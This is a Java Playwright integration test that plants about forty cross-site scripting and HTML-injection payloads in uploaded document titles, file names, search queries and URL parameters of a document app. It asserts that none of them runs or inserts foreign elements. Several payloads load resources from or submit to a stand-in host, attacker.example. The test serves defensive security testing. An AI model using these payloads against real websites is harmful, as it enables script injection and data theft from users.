package dev.nuri.system;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.WaitUntilState;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Markup in titles, texts, file names, questions and answers is text: no script of theirs runs, nothing is fetched from
 * elsewhere, no element of theirs is made.
 */
class HostilePageIT {

    /** Where a script or a picture that came through would show: a variable, or a request to another origin. */
    private static final List<String> PAYLOADS = List.of(
            "<script>window.owned=1</script>",
            "<script src=https://attacker.example/a.js></script>",
            "<img src=x onerror=window.owned=1>",
            "<img src=https://attacker.example/a.png>",
            "<svg onload=window.owned=1>",
            "<svg><script>window.owned=1</script></svg>",
            "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
            "<iframe src=javascript:window.parent.owned=1></iframe>",
            "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
            "<object data=https://attacker.example/a></object>",
            "<embed src=https://attacker.example/a>",
            "<link rel=stylesheet href=https://attacker.example/a.css>",
            "<style>@import 'https://attacker.example/a.css';</style>",
            "<style>*{background:url(https://attacker.example/a)}</style>",
            "<base href=https://attacker.example/>",
            "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
            "<form action=https://attacker.example/><button autofocus>x</button></form>",
            "<input autofocus onfocus=window.owned=1>",
            "<details open ontoggle=window.owned=1>",
            "<video><source onerror=window.owned=1></video>",
            "<audio src=x onerror=window.owned=1>",
            "<body onload=window.owned=1>",
            "<marquee onstart=window.owned=1>x</marquee>",
            "<a href=javascript:window.owned=1 id=hostile>x</a>",
            "<a href=\"data:text/html,<script>opener.owned=1</script>\">x</a>",
            "<template><script>window.owned=1</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
            "\"><script>window.owned=1</script>",
            "' onmouseover='window.owned=1' x='",
            "javascript:window.owned=1",
            "</title><script>window.owned=1</script>",
            "</textarea><script>window.owned=1</script>",
            "--><script>window.owned=1</script>",
            "]]><script>window.owned=1</script>",
            "<scr<script>ipt>window.owned=1</scr</script>ipt>",
            "&lt;script&gt;window.owned=1&lt;/script&gt;",
            "＜img src=x onerror=window.owned=1＞",
            "![x](https://attacker.example/a.png) [y](javascript:window.owned=1)",
            "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= window.owned=1 %>",
            "<a id=q name=fetch href=//attacker.example>x</a>",
            "\u202e<script>window.owned=1</script>\u2066");

    @TempDir
    Path temp;

    @Test
    void nothingThatComesFromOutsideActs() throws Exception {
        try (NuriServer server = NuriServer.start(temp.resolve("data"));
                Browser browser = new Browser(server.url())) {
            List<String> jobs = new ArrayList<>();
            for (int i = 0; i < PAYLOADS.size(); i++) {
                jobs.add(plant(server.api(), i, PAYLOADS.get(i)));
            }
            for (String job : jobs) {
                server.api().awaitJob(job);
            }
            Page page = browser.open("en-US", 1280, 900);
            page.onDialog(dialog -> {
                throw new AssertionError("a dialog was opened: " + dialog.message());
            });
            visit(page, server, "/?view=documents", "#view-documents tbody tr");
            for (int i = 0; i < PAYLOADS.size(); i++) {
                // The question is a payload, and so is what it finds and quotes.
                String question = "What does keeper" + i + "z say? " + PAYLOADS.get(i);
                visit(page, server, "/?q=" + encoded(question), "#hits h2, #hits .notice, #hits .hit");
            }
            for (JsonNode document :
                    Api.ok(server.api().get("/api/documents?limit=100")).path("documents")) {
                visit(page, server, "/?doc=" + encoded(document.path("id").asText()), "#view-document h1");
            }
            // An address that lies about the place and the view.
            for (String payload : PAYLOADS.subList(0, 8)) {
                String lie = encoded(payload);
                page.navigate(server.url() + "/?doc=" + lie + "&start=" + lie + "&collection=" + lie + "&lang=" + lie);
                quiet(page, payload);
            }
            assertThat(browser.complaints()).isEmpty();
        }
    }

    private static String plant(Api api, int i, String payload) throws Exception {
        String text = "# " + payload + "\n\nThe keeper" + i + "z says " + payload + " every morning at seven.\n";
        String name = payload.replace('"', '\'').replace('\\', '-') + i + ".md";
        Api.Reply reply = api.upload(name, text.getBytes(StandardCharsets.UTF_8), "hostile");
        assertThat(reply.status()).as(payload).isEqualTo(202);
        return reply.body().path("jobId").asText();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private static void visit(Page page, NuriServer server, String path, String shown) {
        page.navigate(server.url() + path, new Page.NavigateOptions().setWaitUntil(WaitUntilState.DOMCONTENTLOADED));
        page.locator(shown).first().waitFor();
        quiet(page, path);
    }

    private static void quiet(Page page, String where) {
        assertThat(page.evaluate("window.owned === undefined")).as(where).isEqualTo(true);
        Object foreign =
                page.evaluate("[...document.querySelectorAll('main img, iframe, object, embed, base, main style,"
                        + " main script, audio, video, marquee, math, a[href^=\"javascript:\"], a[href^=\"data:\"],"
                        + " [onerror], [onload]')].map(e => e.outerHTML).join()");
        assertThat(foreign).as(where).isEqualTo("");
    }
}
